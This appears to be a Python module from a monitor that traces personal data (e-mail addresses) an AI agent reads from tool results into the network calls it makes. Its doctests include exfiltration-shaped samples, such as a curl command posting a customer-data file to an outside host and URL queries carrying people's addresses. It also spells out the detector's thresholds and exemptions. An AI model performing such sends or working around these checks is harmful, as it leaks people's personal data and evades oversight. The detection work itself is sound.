"""Personal data read from tool results, followed to what a call sends, as
:mod:`detectors.egress_gaming.detector` keeps it.

Personal data here is what a tool result showed that identifies people: the e-mail
addresses a result named first (a query's rows, an export, a mailbox), not ones the
user's words or the agent's own arguments named (the address ledger's ``origin``).
Taint follows it two ways: a call whose arguments carry such values (a URL query
``?email=…``, a body), and a file a call wrote with two or more of them in its content
(``/tmp/prompt.json`` built from customer rows), named later by a call that sends
(``-d @/tmp/prompt.json``). Which sends count is
:func:`detectors.egress_gaming.leak.leak_verdict`'s: network targets only, not local,
not named by the user.

Pure functions of the ledger's tables; the caller owns and caps them.
"""

from __future__ import annotations

from collections.abc import Mapping
from urllib.parse import unquote

from features.egress.result_addresses import EMAIL_RE

__all__ = [
    "MIN_FILE_VALUES",
    "carried_personal",
    "in_url",
    "personal_values",
    "query_people",
    "record_file",
]

MIN_FILE_VALUES = 2
"""Values a written file must hold to be tainted: one address in a config is not a
data set."""


def personal_values(
    low: str, origin: Mapping[str, tuple[int, str] | None]
) -> list[tuple[str, int]]:
    """(value, seq of the result that showed it first) of each e-mail address in the
    lower-cased arguments ``low`` (URL-decoded too) that a tool result named first.

    >>> personal_values("find?email=ana%40mail.pt", {"ana@mail.pt": (6, "e-mail address")})
    [('ana@mail.pt', 6)]
    >>> personal_values("to bob@x.io", {"bob@x.io": None})
    []
    """
    if "@" not in low and "%40" not in low:
        return []
    text = unquote(low) if "%40" in low else low
    text = text.replace("\\n", " ").replace("\\t", " ")  # JSON escapes glue words on
    found: dict[str, int] = {}
    for value in EMAIL_RE.findall(text):
        entry = origin.get(value.lower())
        if entry is not None and entry[1] == "e-mail address":
            found.setdefault(value.lower(), entry[0])
    return list(found.items())


def carried_personal(
    low: str,
    values: list[tuple[str, int]],
    files: Mapping[str, tuple[int, int]],
) -> str | None:
    """What personal data a call's arguments carry: values a result showed, or a file
    written with them (``files``: path -> (seq written, seq the data was read)); None.

    >>> carried_personal("curl -d @/tmp/p.json https://h.io", [], {"/tmp/p.json": (9, 4)})
    '/tmp/p.json (written at step 9 with personal data read at step 4)'
    """
    if values:
        seq = min(s for _, s in values)
        return (
            f"personal data ({len(values)} e-mail address(es) a tool result showed at step {seq})"
        )
    for path, (written, read) in files.items():
        if path in low:
            return f"{path} (written at step {written} with personal data read at step {read})"
    return None


def in_url(url: str | None, values: list[tuple[str, int]]) -> bool:
    """Whether a URL (decoded) carries one of the personal ``values``: a GET's query.

    >>> in_url("https://p.io/find?email=ana%40mail.pt", [("ana@mail.pt", 6)])
    True
    """
    if not url or not values:
        return False
    text = unquote(url).lower()
    return any(value in text for value, _ in values)


def query_people(url: str | None, host: str) -> list[str]:
    """The e-mail addresses a URL's query carries (decoded) at a domain other than the
    host's own: people looked up at a third party (``?email=ana@mail.pt``).

    >>> query_people("https://p.io/v2/find?email=ana%40mail.pt", "p.io")
    ['ana@mail.pt']
    >>> query_people("https://mail.pt/u?email=ana%40mail.pt", "mail.pt")
    []
    """
    if not url or "?" not in url:
        return []
    query = unquote(url.split("?", 1)[1]).lower()
    if "@" not in query:
        return []
    own = ".".join(host.lower().split(".")[-2:])
    return [e for e in EMAIL_RE.findall(query) if not e.lower().endswith(own)]


_RECORD_FILES = (".csv", ".tsv", ".jsonl", ".ndjson", ".parquet", ".xlsx")


def record_file(path: str) -> bool:
    """A file of records (a table or one JSON object a line), the shape an export of
    people takes.

    >>> record_file("/tmp/cand_0.csv"), record_file("dist/pkg-1.0.tar.gz")
    (True, False)
    """
    return path.endswith(_RECORD_FILES)
